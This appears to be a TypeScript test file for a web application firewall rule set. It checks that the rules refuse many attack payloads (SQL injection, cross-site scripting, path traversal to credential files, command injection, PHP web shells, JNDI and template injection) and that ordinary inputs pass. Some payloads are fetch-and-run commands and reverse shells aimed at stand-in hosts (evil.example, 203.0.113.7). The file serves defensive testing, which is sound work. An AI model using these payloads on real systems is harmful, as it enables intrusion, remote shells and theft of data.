import assert from 'node:assert/strict'
import { test } from 'node:test'
import { loadRuleSet } from '@palisade/seclang'
import { connection } from '@palisade/seclang/testing'
import { SecondStage } from '../second-opinions/second-stage.ts'
import { basicRuleSources } from './basic-rules.ts'
import { bodySettings } from './body-settings.ts'

const rules = loadRuleSet({
  sources: [
    { name: 'settings', text: `${bodySettings}\nSecRuleEngine On\nSecRequestBodyAccess On` },
    ...basicRuleSources,
  ],
  readsEveryBody: true,
  readsEncodedValues: true,
})
const stage = new SecondStage(rules)

interface Message {
  readonly uri?: string
  readonly headers?: readonly string[]
  readonly body?: string
}

/** Whether the rules refuse a request, and the second stage lets it be refused. */
function isRefused({ uri = '/', headers = [], body }: Message): boolean {
  const head = {
    method: body === undefined ? 'GET' : 'POST',
    uri,
    protocol: 'HTTP/1.1',
    headers: ['Host', 'www.example.org', 'User-Agent', 'Mozilla/5.0 (X11; Linux x86_64)', ...headers],
  }
  const bytes = body === undefined ? undefined : Buffer.from(body)
  const first = rules.newTransaction({ connection })
  if ((first.requestHeaders(head) ?? first.requestBody(bytes)) === undefined) return false
  const opinion = stage.at(first)
  if (opinion === undefined) return true
  const second = rules.newTransaction({ connection, exclusions: opinion.exclusions })
  return (second.requestHeaders(head) ?? second.requestBody(bytes)) !== undefined
}

const asParameter = (value: string): Message => ({ uri: `/search?q=${encodeURIComponent(value)}` })

const attacks: Readonly<Record<string, readonly string[]>> = {
  SQL: [
    "' OR '1'='1",
    "' or 1=1--",
    "admin'--",
    "admin' #",
    "1' ORDER BY 5-- -",
    '1 UNION SELECT username, password FROM users',
    "-1' UNION/**/ALL/**/SELECT/**/1,2,3--+",
    "1'; DROP TABLE users--",
    "1;exec xp_cmdshell('whoami')",
    '1 AND SLEEP(5)',
    "1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- -",
    "1'||pg_sleep(5)--",
    "1); WAITFOR DELAY '0:0:5'--",
    "' AND extractvalue(1,concat(0x7e,version()))-- -",
    '1 or 1=1',
    '1) or (1=1',
    '" or ""="',
    "' || '1'='1",
    "1' and '1' like '1",
    'id=1 and ascii(substr((select database()),1,1))>64',
    "1' INTO OUTFILE '/var/www/x.php'-- -",
    '1 and (select count(*) from information_schema.tables)>0',
  ],
  scripts: [
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js>',
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert`1`>",
    '<body onload=alert(1)>',
    '<iframe src="javascript:alert(1)">',
    '<a href="java&#x0a;script:alert(1)">x</a>',
    '" autofocus onfocus=alert(1) x="',
    '<details open ontoggle=confirm(1)>',
    '<object data="data:text/html;base64,PHNjcmlwdD4=">',
    "';alert(document.cookie)//",
    '<math><mtext><style><img src=x onerror=alert(1)></style>',
    '<input type=image src=x formaction=javascript:alert(1)>',
    '<%00script>alert(1)</script>',
  ],
  files: [
    '../../../../etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '....//....//etc/shadow',
    '/etc/passwd',
    '/proc/self/environ',
    'file:///etc/hosts',
    'php://filter/convert.base64-encode/resource=index',
    '%252e%252e%252fetc%252fpasswd',
    '..%c0%af..%c0%afetc/passwd',
    'http://203.0.113.7/shell.txt?',
  ],
  commands: [
    '; cat /etc/passwd',
    '127.0.0.1 && whoami',
    '127.0.0.1|id',
    '`id`',
    '$(curl http://evil.example/x)',
    "c''at /etc/passwd; l\\s",
    ';wget http://evil.example/x -O /tmp/x;sh /tmp/x',
    'x;cat\x24{IFS}/etc/passwd',
    '| nc -e /bin/sh 203.0.113.7 4444',
    '& powershell -enc SQBFAFgA',
    'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
    '() { :;}; /bin/bash -c id',
    '& cmd.exe /c dir',
  ],
  PHP: [
    '<?php system($_GET["c"]); ?>',
    '<?=`id`?>',
    "system('id');",
    'O:8:"Monolog1":1:{s:1:"x";i:1;}',
    'assert($_POST[1])',
    '\x24{@phpinfo()}',
  ],
  'templates and expressions': [
    '{{7*7}}',
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    '\x24{jndi:ldap://evil.example/a}',
    '\x24{\x24{lower:j}ndi:rmi://evil.example/a}',
    '%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}',
    "\x24{T(java.lang.Runtime).getRuntime().exec('id')}",
    "require('child_process').exec('id')",
    'class.module.classLoader.resources.context.parent.pipeline.first.pattern',
  ],
  'directories and heads': ['*)(uid=*))(|(uid=*', 'x\r\nSet-Cookie: a=b', 'x\r\n\r\nHTTP/1.1 200 OK'],
}

for (const [sort, values] of Object.entries(attacks)) {
  test(`the basic rules refuse attacks with ${sort}`, () => {
    const passed = values.filter((value) => !isRefused(asParameter(value)))
    assert.deepEqual(passed, [])
    const passedInBodies = values.filter(
      (value) => !isRefused({ headers: jsonHeaders, body: JSON.stringify({ name: 'x', note: value }) }),
    )
    assert.deepEqual(passedInBodies, [], 'in JSON')
  })
}

const jsonHeaders = ['Content-Type', 'application/json']

test('the basic rules look at addresses, cookies, names, heads and XML as well', () => {
  const messages: Readonly<Record<string, Message>> = {
    address: { uri: '/static/../../../etc/passwd' },
    'encoded address': { uri: '/static/%2e%2e%2f%2e%2e%2fetc/passwd' },
    'settings of a repository': { uri: '/.git/config' },
    cookie: { headers: ['Cookie', "id=1' or '1'='1"] },
    'name of a parameter': { uri: `/?${encodeURIComponent('<script>alert(1)</script>')}=1` },
    'any other head': { headers: ['X-Api-Version', '\x24{jndi:ldap://evil.example/a}'] },
    scanner: { headers: ['User-Agent', 'sqlmap/1.7'] },
    'entity of XML': asParameter('<!DOCTYPE a [<!ENTITY x SYSTEM "http://evil.example/a">]><a>&x;</a>'),
    form: {
      headers: ['Content-Type', 'application/x-www-form-urlencoded'],
      body: 'user=admin%27--&password=x',
    },
    'query of MongoDB': { headers: jsonHeaders, body: '{"user":{"$ne":null}}' },
  }
  const passed = Object.keys(messages).filter((name) => !isRefused(messages[name] ?? {}))
  assert.deepEqual(passed, [])
})

test('the basic rules let ordinary values pass', () => {
  const ordinary = [
    "O'Neill & Sons",
    'Select a branch from the list; update it and drop me a line',
    'rock and roll; 7 - 3 = 4',
    'What does <b>bold</b> mean? 3 < 5 and 6 > 2',
    'see https://www.example.org/a/b?c=d&e=f#g',
    'the cat sat on the mat | the dog did not',
    '{"id":7,"ls":["cat","echo"]}',
    'query Books($first: Int) { books(first: $first) { title notes } }',
    'C:\\Users\\Anna\\Documents\\notes.txt',
    'Meet at 10:30 (or 11:00); bring your own "coffee" -- thanks!',
    'a@example.org, b@example.org',
    '€ 1.299,00 / 12 × 2 = ?',
    'On-line order: 1=one, 2=two',
    'We evaluate(d) the system (again) and the script',
    '{!tag=brand}brand:("Ann & Sons" OR "Groß")',
    '[["name","contains","chair"],"and",["total",">=",10]]',
    '<p style="text-align: center;"><img src="/uploads/chair.jpg" alt=""></p>',
    "startswith(name, 'Åse') and year(placedAt) eq 2024",
    'Home | Shop & more | Sort by: price',
  ]
  assert.deepEqual(
    ordinary.filter((value) => isRefused(asParameter(value))),
    [],
  )
  assert.ok(!isRefused({ uri: '/a/b.c/..d/e?x[]=1&y.z=2' }))
})
